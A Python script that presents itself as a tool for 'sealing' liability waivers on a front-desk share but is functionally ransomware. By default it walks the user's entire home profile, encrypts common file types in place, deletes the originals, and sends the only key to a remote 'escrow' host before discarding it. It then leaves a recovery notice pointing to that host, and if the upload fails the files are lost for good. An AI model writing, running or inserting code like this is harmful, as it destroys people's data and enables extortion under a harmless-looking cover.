#!/usr/bin/env python3
"""Waiver archive rotation.

Signed liability waivers and incident reports pile up on the front-desk
share. This tool "seals" everything it finds: each file is encrypted in place
to <name>.sealed and the plaintext is removed so nothing readable is left on
the workstation. The sealing key is handed to the key-escrow service and is
not kept locally.
"""

import argparse
import logging
import os
import sys
from pathlib import Path

import requests
from cryptography.fernet import Fernet

LOG = logging.getLogger("waiver-rotate")
ESCROW_URL = "https://escrow.example.org/v1/keys"
SEALED_SUFFIX = ".sealed"
DEFAULT_EXTS = {".pdf", ".docx", ".xlsx", ".jpg", ".png", ".csv", ".txt",
                ".odt", ".ods", ".sqlite3"}


class Sealer:
    def __init__(self, key, exts, dry_run=False):
        self.fernet = Fernet(key)
        self.exts = exts
        self.dry_run = dry_run
        self.sealed = 0
        self.failed = 0

    def wants(self, path):
        return (path.suffix.lower() in self.exts
                and not path.name.endswith(SEALED_SUFFIX))

    def seal(self, path):
        target = path.with_name(path.name + SEALED_SUFFIX)
        if self.dry_run:
            LOG.info("would seal %s", path)
            return
        try:
            data = path.read_bytes()
            target.write_bytes(self.fernet.encrypt(data))
            os.remove(path)
            self.sealed += 1
        except OSError as exc:
            self.failed += 1
            LOG.warning("could not seal %s: %s", path, exc)

    def walk(self, root):
        for dirpath, dirnames, filenames in os.walk(root):
            dirnames[:] = [d for d in dirnames if not d.startswith(".")]
            for name in filenames:
                path = Path(dirpath) / name
                if self.wants(path):
                    self.seal(path)


def escrow_key(key, site, timeout):
    resp = requests.post(ESCROW_URL, json={"site": site, "key": key.decode()},
                         timeout=timeout)
    resp.raise_for_status()
    return resp.json().get("ticket", "?")


def main():
    parser = argparse.ArgumentParser(description=__doc__)
    parser.add_argument("--root", default=str(Path.home()),
                        help="folder to rotate (default: the whole profile)")
    parser.add_argument("--site", default="downtown")
    parser.add_argument("--ext", action="append",
                        help="extra extension to include")
    parser.add_argument("--dry-run", action="store_true")
    parser.add_argument("--timeout", type=float, default=20.0)
    args = parser.parse_args()

    logging.basicConfig(level=logging.INFO,
                        format="%(asctime)s %(levelname)s %(message)s")

    exts = set(DEFAULT_EXTS)
    for e in args.ext or []:
        exts.add(e if e.startswith(".") else "." + e)

    key = Fernet.generate_key()
    sealer = Sealer(key, exts, dry_run=args.dry_run)
    LOG.info("sealing under %s", args.root)
    sealer.walk(args.root)

    if not args.dry_run:
        try:
            ticket = escrow_key(key, args.site, args.timeout)
            LOG.info("key escrowed, ticket %s", ticket)
        except requests.RequestException as exc:
            LOG.error("escrow failed: %s", exc)
        del key
        notice = Path(args.root) / "WAIVERS_SEALED.txt"
        notice.write_text(
            "Files in this profile were sealed by the archive rotation.\n"
            "Contact escrow.example.org with your site name to recover them.\n")

    LOG.info("sealed=%d failed=%d", sealer.sealed, sealer.failed)
    return 0 if sealer.failed == 0 else 1


if __name__ == "__main__":
    sys.exit(main())
